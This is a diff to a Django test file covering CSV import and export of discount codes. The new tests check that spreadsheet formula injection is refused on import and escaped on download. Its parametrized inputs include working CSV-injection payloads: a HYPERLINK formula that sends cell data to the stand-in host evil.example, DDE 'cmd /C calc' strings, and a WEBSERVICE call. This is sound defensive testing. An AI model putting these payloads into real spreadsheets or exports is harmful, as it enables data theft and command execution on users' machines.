@@ -141,8 +141,9 @@ def test_unused_codes_download_as_safe_csv(client, owner, business, imported, st
     assert response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
     rows = list(csv.reader(io.StringIO(response.content.decode())))
-    # Only the unused codes; a cell a spreadsheet would run as a formula is shown as text.
-    assert rows == [["code"], ["'-SUM1"], ["B_2"]]
+    # Only the unused codes, each exactly as the POS must accept it: a code's alphabet
+    # cannot make a formula that runs anything, so "-SUM1" gets no quote in front.
+    assert rows == [["code"], ["-SUM1"], ["B_2"]]
     assert AuditEntry.objects.get(action="code_pool.downloaded").details == {"count": 2}
 
 
@@ -175,3 +176,80 @@ def test_the_page_is_in_the_users_language(client, owner, business, imported):
     text = client.get(page(business), HTTP_ACCEPT_LANGUAGE="th").content.decode()
     assert "รหัสใช้สิทธิ์" in text
     assert "Download unused codes" not in text
+
+
+POS_CODES = ["-5OFF", "--X", "-SUM1", "A_-1", "_lead", "plain7"]
+
+
+def test_codes_starting_with_a_minus_round_trip_exactly(client, owner, business, imported):
+    """The POS's own codes, "-5OFF" among them, go in, come out and go in again unchanged."""
+    client.force_login(owner)
+    upload = SimpleUploadedFile("pos.csv", ("code\n" + "\n".join(POS_CODES)).encode(), "text/csv")
+    response = client.post(
+        page(business), {"action": "import", "pool": imported.pk, "file": upload}
+    )
+    assert response.status_code == 302
+    downloaded = client.get(csv_url(business, imported)).content
+    assert downloaded.decode() == "code\r\n" + "".join(f"{code}\r\n" for code in POS_CODES)
+    again = CodePool.objects.create(business=business, name="Second till", kind="imported")
+    upload = SimpleUploadedFile("again.csv", downloaded, "text/csv")
+    response = client.post(page(business), {"action": "import", "pool": again.pk, "file": upload})
+    assert response.status_code == 302
+    assert list(
+        PoolCode.objects.filter(pool=again).order_by("id").values_list("code", flat=True)
+    ) == (POS_CODES)
+
+
+def test_a_quote_an_earlier_download_or_a_spreadsheet_put_in_front_is_taken_off(
+    client, owner, business, imported
+):
+    client.force_login(owner)
+    old_download = b"code\r\n'-5OFF\r\n\"'-SUM1\"\r\nB_2\r\n"
+    upload = SimpleUploadedFile("old.csv", old_download, "text/csv")
+    response = client.post(
+        page(business), {"action": "import", "pool": imported.pk, "file": upload}
+    )
+    assert response.status_code == 302
+    assert list(PoolCode.objects.order_by("id").values_list("code", flat=True)) == [
+        "-5OFF",
+        "-SUM1",
+        "B_2",
+    ]
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'=1+1",
+        '\'-1+WEBSERVICE("http://evil.example")',
+        "+1-2",
+        "-A1:A9",
+    ],
+)
+def test_a_formula_is_refused_on_import_and_never_stored(
+    client, owner, business, imported, payload
+):
+    client.force_login(owner)
+    out = io.StringIO()
+    csv.writer(out).writerows([["code"], ["GOOD-1"], [payload]])
+    upload = SimpleUploadedFile("evil.csv", out.getvalue().encode(), "text/csv")
+    response = client.post(
+        page(business), {"action": "import", "pool": imported.pk, "file": upload}
+    )
+    assert response.status_code == 400
+    assert "Line 3:" in response.content.decode()
+    assert not PoolCode.objects.exists()
+
+
+def test_a_formula_that_got_into_a_pool_otherwise_is_still_downloaded_as_text(
+    client, owner, business, imported
+):
+    """Codes are checked on the way in; the download does not count on it."""
+    PoolCode.objects.create(business=business, pool=imported, code='=HYPERLINK("http://x")')
+    PoolCode.objects.create(business=business, pool=imported, code="-5OFF")
+    client.force_login(owner)
+    rows = list(csv.reader(io.StringIO(client.get(csv_url(business, imported)).content.decode())))
+    assert rows == [["code"], ['\'=HYPERLINK("http://x")'], ["-5OFF"]]
